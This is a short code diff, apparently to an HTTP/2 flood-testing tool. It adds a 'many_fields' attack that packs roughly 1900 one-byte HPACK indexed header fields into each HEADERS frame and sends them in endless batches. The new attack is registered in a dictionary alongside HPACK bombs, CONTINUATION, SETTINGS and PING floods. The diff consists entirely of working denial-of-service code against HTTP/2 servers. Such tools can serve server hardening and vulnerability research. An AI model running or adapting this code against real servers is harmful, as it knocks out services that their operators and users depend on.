@@ -69,6 +69,13 @@ def hpack_bomb(address, over, count):
              batch=1)
 
 
+def many_fields(address, over, count):
+    """As many fields as may be, of a byte each, in calls that are answered."""
+    block = request(field("x", b"", first=0x40) + b"\xbe" * 1900)
+    _endless(address, over, count,
+             lambda s: frame(HEADERS, END_HEADERS, s, block) + data_frames(s, SMALL, True), batch=10)
+
+
 def settings(address, over, count):
     _endless(address, over, count, lambda _: frame(SETTINGS, 0, 0))
 
@@ -301,6 +308,7 @@ ATTACKS = {
     "CONTINUATION": continuation,
     "empty CONTINUATION": empty_continuation,
     "HPACK bombs": hpack_bomb,
+    "many fields": many_fields,
     "SETTINGS": settings,
     "PING": ping,
     "empty DATA": empty_data,
